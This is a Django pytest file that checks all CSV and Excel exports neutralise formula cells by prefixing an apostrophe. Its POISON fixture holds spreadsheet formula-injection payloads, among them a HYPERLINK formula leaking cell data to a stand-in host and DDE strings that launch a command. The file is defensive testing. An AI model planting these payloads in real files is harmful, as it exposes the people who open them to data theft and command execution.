"""Every CSV and Excel export of the project, admin and public, writes a text cell a spreadsheet would
run as a formula (starting with =, +, -, @, tab or carriage return) with an apostrophe in front.

django-import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT stays off: it only strips a leading
"=" and turns every cell, empty ones included, into text; the resources neutralise cells themselves
(``programs/resources.py``), so that an exported file imports back unchanged."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cities.resources import CityResource
from exchange_portal.spreadsheets import FORMULA_PREFIXES
from participants.resources import ParticipantResource
from programs.resources import ProgramResource

from .test_scoping import export_form

POISON = {
    "program title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "headcount note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "participant name": "=cmd|' /C calc'!A0",
    "organisation": "+1+1",
    "position": "-2+3",
    "city name": "=1+1",
    "city slug": "=cmd",
    "theme slug": "@theme",
}


@pytest.fixture
def poisoned(world):
    program = world.program_b
    program.title = POISON["program title"]
    program.headcount_note = POISON["headcount note"]
    program.save()
    participant = world.participant_b
    participant.name = POISON["participant name"]
    participant.organisation = POISON["organisation"]
    participant.position = POISON["position"]
    participant.save()
    city = world.seoul
    city.name = POISON["city name"]
    city.save()
    # Slugs are validated in forms and imports; written directly, they show the exports do not trust them.
    type(city).objects.filter(pk=city.pk).update(slug=POISON["city slug"])
    type(world.theme).objects.filter(pk=world.theme.pk).update(slug=POISON["theme slug"])
    return world


def admin_export(url_name, resource_class, file_format):
    def fetch(client):
        return client.post(reverse(url_name), export_form(resource_class, format=file_format))

    return fetch


def public_export(path):
    def fetch(client):
        return client.get(path)

    return fetch


# (export, how to fetch it, the poisoned values it must contain neutralised)
EXPORTS = [
    (
        "admin programs csv",
        admin_export("admin:programs_program_export", ProgramResource, "0"),
        ["program title", "headcount note"],
    ),
    (
        "admin programs xlsx",
        admin_export("admin:programs_program_export", ProgramResource, "1"),
        ["program title", "headcount note"],
    ),
    (
        "admin participants csv",
        admin_export("admin:participants_participant_export", ParticipantResource, "0"),
        ["participant name", "organisation", "position"],
    ),
    (
        "admin participants xlsx",
        admin_export("admin:participants_participant_export", ParticipantResource, "1"),
        ["participant name", "organisation", "position"],
    ),
    ("admin cities csv", admin_export("admin:cities_city_export", CityResource, "0"), ["city name", "city slug"]),
    ("admin cities xlsx", admin_export("admin:cities_city_export", CityResource, "1"), ["city name", "city slug"]),
    ("public programs csv", public_export("/programs/export.csv"), ["program title", "headcount note"]),
    ("public programs xlsx", public_export("/programs/export.xlsx"), ["program title", "headcount note"]),
    ("public statistics csv", public_export("/stats/export.csv"), ["city slug", "theme slug"]),
    ("public statistics xlsx", public_export("/stats/export.xlsx"), ["city slug", "theme slug"]),
]


def cells(response):
    """Every cell of a CSV or .xlsx download (all sheets), as the spreadsheet would read it."""
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def runs_as_formula(cell):
    if not isinstance(cell, str) or not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize(("name", "fetch", "poisoned_values"), EXPORTS, ids=[export[0] for export in EXPORTS])
def test_every_export_neutralises_formula_cells(as_editor, poisoned, name, fetch, poisoned_values):
    response = fetch(as_editor)
    assert response.status_code == 200
    exported = cells(response)
    assert [cell for cell in exported if runs_as_formula(cell)] == []
    for value in poisoned_values:
        assert "'" + POISON[value] in exported, value
